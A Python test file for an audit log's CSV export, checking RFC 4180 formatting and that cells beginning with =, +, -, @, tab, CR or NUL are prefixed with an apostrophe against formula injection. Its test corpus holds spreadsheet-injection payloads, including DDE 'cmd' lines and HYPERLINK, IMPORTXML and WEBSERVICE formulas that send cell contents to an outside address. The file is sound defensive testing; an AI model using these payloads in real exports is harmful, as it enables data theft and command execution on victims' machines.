"""E28: CSV is that of RFC 4180, and no cell is one that a spreadsheet would take for a formula: ``'`` stands before
``= + - @`` TAB CR and NUL (ASVS 5.0 V1.2.10)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from patchbay.model.message import Actor
from patchbay_audit.cells import COLUMNS, cell, row
from patchbay_audit.entry import NOTHING_BEFORE, facts_of, written
from patchbay_audit.export import csv_line
from tests.plugins.audit.acts import act

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\0")
CORPUS = (
    '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://203.0.113.9/",A1),"//a")',
    '=WEBSERVICE("http://203.0.113.9/"&A1)',
    "=1+1",
    "-1",
    "+351911111111",
    "@mara",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "\0=1+1",
    '="a,b"',
    "=\n1",
    "=" * 5_000,
)
HARMLESS = (
    "",
    "Mara",
    "a=b",
    "a,b",
    'a "quoted" word',
    "two\r\nlines",
    "two\nlines",
    " spaces ",
    "'=1+1",
    "ümit",
    "1",
    "a\tb",
)


def parsed(text: str) -> list[list[str]]:
    """The records as a strict reader of RFC 4180 sees them."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("value", CORPUS)
def test_e28_what_may_be_run_begins_with_an_apostrophe(value: str) -> None:
    assert parsed(row([value, "after"])) == [["'" + value, "after"]]


@pytest.mark.parametrize("first", DANGEROUS)
def test_e28_each_character_alone_and_before_anything(first: str) -> None:
    for value in (first, first + "1", first * 3, first + '"', first + ","):
        assert parsed(row([value])) == [["'" + value]]


@pytest.mark.parametrize("value", HARMLESS)
def test_e28_anything_else_stays_as_it_is(value: str) -> None:
    assert parsed(row([value, "after"])) == [[value, "after"]]


def test_e28_a_record_is_that_of_the_standard() -> None:
    assert row(["a", None, 'say "hi"', "b,c", "d\ne", 7, False]) == 'a,,"say ""hi""","b,c","d\ne",7,False\r\n'


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=20), min_size=2, max_size=6))
def test_e28_every_text_comes_back_and_none_begins_dangerously(values: list[str]) -> None:
    text = row(values)
    assert text.endswith("\r\n")
    (read,) = parsed(text)
    assert [each.removeprefix("'") if each.startswith("'") else each for each in read] == [
        each.removeprefix("'") for each in values
    ]
    assert not any(each.startswith(DANGEROUS) for each in read)


@pytest.mark.parametrize("value", CORPUS)
def test_e28_in_every_column_that_somebody_outside_can_fill(value: str) -> None:
    said = act(
        value,
        actor=Actor(type="agent", id=value, name=value),
        about={"name": value, value: 1},
        outcome=value,
    )
    entry = written(facts_of(said, seq=1, previous_hash=NOTHING_BEFORE))
    ((*cells,),) = parsed(csv_line(entry))
    assert len(cells) == len(COLUMNS)
    assert not any(each.startswith(DANGEROUS) for each in cells)


def test_e28_the_head_names_the_columns() -> None:
    entry = written(facts_of(act(), seq=1, previous_hash=NOTHING_BEFORE))
    (names,), (values,) = parsed(row(COLUMNS)), parsed(csv_line(entry))
    told = dict(zip(names, values, strict=True))
    assert (told["seq"], told["action"], told["actor_id"]) == ("1", "close_conversation", "usr_mara")
    assert told["hash"] == entry.hash
    assert cell(None) == ""
